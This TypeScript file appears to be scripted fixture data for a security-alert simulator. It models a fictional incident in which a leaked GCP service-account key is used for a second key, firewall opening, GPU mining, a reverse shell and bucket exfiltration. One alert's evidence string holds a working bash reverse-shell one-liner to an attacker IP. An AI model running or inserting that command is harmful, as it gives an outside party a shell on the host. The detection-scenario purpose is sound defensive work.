// A service-account key of the tracking project is used from outside: instances, buckets and a cluster.
import { gcpResource, gcpServiceAccount, gcsBucket } from '../clouds.ts';
import {
  cluster,
  container,
  image,
  namespace,
  pod,
  registry,
  serviceAccount,
} from '../kubernetes.ts';
import { connection, ip } from '../network.ts';
import { ANALYSTS, PEOPLE, user } from '../people.ts';
import { inOrder, seen } from '../script.ts';
import type { AlertScript, IncidentScript, Sighting } from '../script.ts';

const account = gcpServiceAccount('tracking', 'track-ingest');
const secondKey = gcpResource(
  'tracking',
  'iam.googleapis.com',
  'serviceAccounts/track-ingest@nwh-tracking-prod.iam.gserviceaccount.com/keys/9f31c07be2',
  'ServiceAccountKey',
);
const project = gcpResource(
  'tracking',
  'cloudresourcemanager.googleapis.com',
  'nwh-tracking-prod',
  'Project',
);
const ingest = gcpResource(
  'tracking',
  'compute.googleapis.com',
  'zones/europe-west4-a/instances/track-ingest-1',
  'Instance',
);
const rogue = gcpResource(
  'tracking',
  'compute.googleapis.com',
  'zones/us-central1-f/instances/instance-20-a100',
  'Instance',
);
const firewall = gcpResource(
  'tracking',
  'compute.googleapis.com',
  'global/firewalls/allow-all-temp',
  'Firewall',
);
const positions = gcsBucket('tracking', 'nwh-vessel-positions');
const exports = gcsBucket('data', 'nwh-bi-exports');
const gke = gcpResource(
  'tracking',
  'container.googleapis.com',
  'locations/europe-west4/clusters/tracking-prod',
  'Cluster',
);
const tracking = cluster(gke, 'gke', '1.31.5-gke.1023000');
const ingestSpace = namespace(tracking, 'ingest');
const ingestPod = pod({
  name: 'ais-decoder-7c5d8f6b9d-4tq8z',
  inside: ingestSpace,
  containers: [
    container({
      name: 'ais-decoder',
      image: image(
        registry('europe-west4-docker.pkg.dev'),
        'europe-west4-docker.pkg.dev/nwh-tracking-prod/ingest/ais-decoder:7.4.1',
      ),
    }),
  ],
  serviceAccount: serviceAccount(ingestSpace, 'ais-decoder'),
  address: '10.96.14.23',
});
const attacker = ip('198.51.100.233');
const BAD = { verdict: 'malicious', remediation: 'active' } as const;
const ODD = { verdict: 'suspicious', remediation: 'active' } as const;

interface Finding {
  readonly after: string;
  readonly type: string;
  readonly title: string;
  readonly severity: AlertScript['severity'];
  readonly category: string;
  readonly techniques: readonly string[];
  readonly tells: string;
  readonly touches: readonly Sighting[];
  readonly lasts?: string;
}

const finding = ({ touches, ...rest }: Finding): AlertScript => ({
  lasts: '6m',
  ...rest,
  from: 'commandCenter',
  advice: 'Disable the key and look in the audit log for what else its account did.',
  evidence: [
    seen(account, ['compromised', 'source'], BAD),
    seen(attacker, 'attacker', { verdict: 'malicious' }),
    ...touches,
  ],
});

const findings: readonly AlertScript[] = [
  finding({
    after: '0m',
    type: 'Initial Access: Leaked Service Account Key Used',
    title: 'Initial Access: Leaked Service Account Key Used',
    severity: 'high',
    category: 'InitialAccess',
    techniques: ['T1078.004', 'T1552.001'],
    tells: 'The key was in a public notebook of a former contractor.',
    touches: [seen(project, 'attacked')],
  }),
  finding({
    after: '12m',
    type: 'Discovery: Service Account Self-Investigation',
    title: 'Discovery: Service Account Self-Investigation',
    severity: 'low',
    category: 'Discovery',
    techniques: ['T1087.004', 'T1069.003'],
    tells: 'track-ingest read its own roles and permissions.',
    touches: [seen(project, 'scanned')],
  }),
  finding({
    after: '31m',
    type: 'Persistence: Service Account Key Created',
    title: 'Persistence: Service Account Key Created',
    severity: 'medium',
    category: 'Persistence',
    techniques: ['T1098.001'],
    tells: 'A second key was made, so that revoking the first one would not be enough.',
    touches: [seen(secondKey, 'created', BAD)],
  }),
  finding({
    after: '48m',
    type: 'Privilege Escalation: Anomalous Impersonation of Service Account for Admin Activity',
    title: 'Privilege Escalation: Anomalous Impersonation of Service Account for Admin Activity',
    severity: 'medium',
    category: 'PrivilegeEscalation',
    techniques: ['T1548.005'],
    tells: 'track-ingest made a token for the service account of the deployment pipeline.',
    touches: [seen(gcpServiceAccount('tracking', 'deployer'), 'compromised', ODD)],
  }),
  finding({
    after: '1h10m',
    type: 'Defense Evasion: VPC Firewall Rule Opened',
    title: 'Defense Evasion: VPC Firewall Rule Opened',
    severity: 'medium',
    category: 'DefenseEvasion',
    techniques: ['T1562.007'],
    tells: 'A rule lets 0.0.0.0/0 reach every port of the network.',
    touches: [seen(firewall, 'created', ODD)],
  }),
  finding({
    after: '1h22m',
    lasts: '7h',
    type: 'Impact: Cryptomining Commands',
    title: 'Impact: GPU Instance Created',
    severity: 'medium',
    category: 'Impact',
    techniques: ['T1578.002', 'T1496.001'],
    tells:
      'An instance with eight accelerators was started in a region that the project does not use.',
    touches: [seen(rogue, ['created', 'attacker'], BAD)],
  }),
  finding({
    after: '6h05m',
    type: 'Lateral Movement: Modified Boot Disk Attached to Instance',
    title: 'Lateral Movement: Modified Boot Disk Attached to Instance',
    severity: 'medium',
    category: 'LateralMovement',
    techniques: ['T1578'],
    tells: 'The disk of track-ingest-1 was detached, changed elsewhere, and attached again.',
    touches: [seen(ingest, ['attacked', 'compromised'], ODD), seen(rogue, 'source', BAD)],
  }),
  finding({
    after: '22h40m',
    lasts: '2h',
    type: 'Exfiltration: Cloud Storage Data Copied',
    title: 'Exfiltration: Cloud Storage Data Copied to External Bucket',
    severity: 'high',
    category: 'Exfiltration',
    techniques: ['T1537', 'T1530'],
    tells: 'Objects of nwh-vessel-positions were copied to a bucket outside the organisation.',
    touches: [seen(positions, ['attacked', 'source'], ODD)],
  }),
  finding({
    after: '23h15m',
    type: 'Exfiltration: BigQuery Data Extraction',
    title: 'Exfiltration: BigQuery Data Extraction',
    severity: 'medium',
    category: 'Exfiltration',
    techniques: ['T1530'],
    tells: 'A table of the data platform was exported to nwh-bi-exports.',
    touches: [seen(exports, ['destination', 'attacked'], ODD)],
  }),
];

const inGke: readonly AlertScript[] = (
  [
    [
      '7h10m',
      'K8S.NODE_ReverseShell',
      'Potential reverse shell detected',
      'medium',
      'Exfiltration',
      'T1059.004',
      'bash -i >& /dev/tcp/198.51.100.233/9001 0>&1',
    ],
    [
      '7h14m',
      'K8S.NODE_ReconnaissanceArtifactsBurst',
      'Burst of multiple reconnaissance commands could indicate initial activity after compromise',
      'low',
      'Discovery',
      'T1082',
      'id, uname, env, mount and ip within ten seconds.',
    ],
    [
      '7h19m',
      'K8S.NODE_ImdsCall',
      'Access to cloud metadata service detected',
      'medium',
      'CredentialAccess',
      'T1552.005',
      'The metadata server was asked for a token of the node.',
    ],
    [
      '7h33m',
      'K8S.NODE_KubernetesAPI',
      'Suspicious request to Kubernetes API',
      'medium',
      'LateralMovement',
      'T1613',
      'The API server was asked from inside a container that never asks.',
    ],
    [
      '8h02m',
      'K8S.NODE_SuspectConnection',
      'An uncommon connection attempt detected',
      'medium',
      'Exfiltration',
      'T1571',
      'A connection to port 9001 of an outside address.',
    ],
  ] as const
).map(([after, type, title, severity, category, technique, tells]): AlertScript => ({
  after,
  lasts: '5m',
  from: 'cloudContainers',
  type,
  title,
  severity,
  category,
  techniques: [technique],
  tells,
  evidence: [
    seen(gke, 'attacked'),
    seen(tracking, 'attacked'),
    seen(ingestSpace, 'contextual'),
    seen(ingestPod, 'compromised', ODD),
    seen(attacker, 'attacker', { verdict: 'malicious' }),
    seen(connection(['10.96.14.23', 47110], ['198.51.100.233', 9001]), 'suspicious'),
  ],
}));

export const GCP_KEY_ABUSE: IncidentScript = {
  key: 'gcp-key-abuse',
  id: '4166',
  startsAt: '-4d 10:03',
  name: 'Leaked GCP service-account key used in nwh-tracking-prod',
  tells:
    'A key of track-ingest from a public notebook was used to make a second key, GPU instances and a copy of vessel positions.',
  status: 'active',
  priority: 82,
  systemTags: ['Credential theft'],
  customTags: ['GCP'],
  comments: [
    {
      after: '1d',
      by: ANALYSTS.amara,
      text: 'Both keys disabled. Waiting for the audit log of the data project.',
    },
  ],
  alerts: inOrder(findings, inGke, [
    {
      after: '50m',
      from: 'cloudApps',
      title: 'Unusual administrative activity (by user)',
      severity: 'medium',
      category: 'PrivilegeEscalation',
      techniques: ['T1098.003'],
      tells: 'Administrative calls in Google Cloud by an account that does not administer.',
      evidence: [
        seen(account, 'source', ODD),
        seen(user(PEOPLE.kenji), 'contextual'),
        seen(attacker, 'source', { verdict: 'malicious' }),
      ],
    },
    {
      after: '23h40m',
      from: 'sentinel',
      title: 'GCP: bulk object reads after service-account key creation',
      severity: 'high',
      category: 'Exfiltration',
      techniques: ['T1530', 'T1098.001'],
      tells: 'A rule of this workspace joined key creation and object reads by the same account.',
      evidence: [
        seen(account, 'source', BAD),
        seen(secondKey, 'created', BAD),
        seen(positions, 'attacked'),
        seen(exports, 'attacked'),
      ],
    },
  ]),
  continues: [
    finding({
      after: '0s',
      type: 'Initial Access: Dormant Service Account Key Denied',
      title: 'Initial Access: Excessive Permission Denied Actions',
      severity: 'low',
      category: 'InitialAccess',
      techniques: ['T1078.004'],
      tells: 'The disabled key is still being tried.',
      touches: [],
    }),
  ],
};
